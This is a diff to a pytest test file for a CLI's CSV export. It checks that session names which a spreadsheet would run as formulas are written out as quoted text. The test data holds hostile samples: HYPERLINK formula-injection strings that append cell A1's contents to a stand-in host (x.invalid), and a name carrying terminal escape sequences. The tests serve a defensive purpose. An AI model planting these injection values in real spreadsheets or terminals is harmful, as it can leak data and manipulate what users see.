@@ -105,12 +105,24 @@ def test_a_folder_of_replayed_fixtures(tmp_path: Path) -> None:
     ]
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+@pytest.mark.parametrize(
+    ("name", "cell"),
+    [
+        *[
+            (
+                f'{start}HYPERLINK("x.invalid?"&A1,"click")',
+                f'\'{start}HYPERLINK("x.invalid?"&A1,"click")',
+            )
+            for start in "=+-@"
+        ],
+        ("\tcmd\x1b]0;pwn\x07", "\\x09cmd\\x1b]0;pwn\\x07"),  # shown, not sent
+        ("plain name", "plain name"),
+    ],
+)
 def test_a_session_name_a_spreadsheet_would_run_is_text_in_the_csv(
-    tmp_path: Path, start: str
+    tmp_path: Path, name: str, cell: str
 ) -> None:
     root = tmp_path / "root"
-    name = f'{start}HYPERLINK("x.invalid?"&A1,"click")'
     sessions_under(root, [name])
     results, jsonl, empty = tmp_path / "r.csv", tmp_path / "r.jsonl", tmp_path / "none"
     empty.mkdir()
@@ -119,7 +131,7 @@ def test_a_session_name_a_spreadsheet_would_run_is_text_in_the_csv(
     assert result.exit_code == 1  # no replay for it: not written, but still a row
     with results.open() as handle:
         (row,) = list(csv.DictReader(handle))
-    assert row["session"] == "'" + name
+    assert row["session"] == cell
     batch_cli(*args, "--results", str(jsonl))
     assert json.loads(jsonl.read_text())["session"] == name  # JSON Lines keep it exact
 
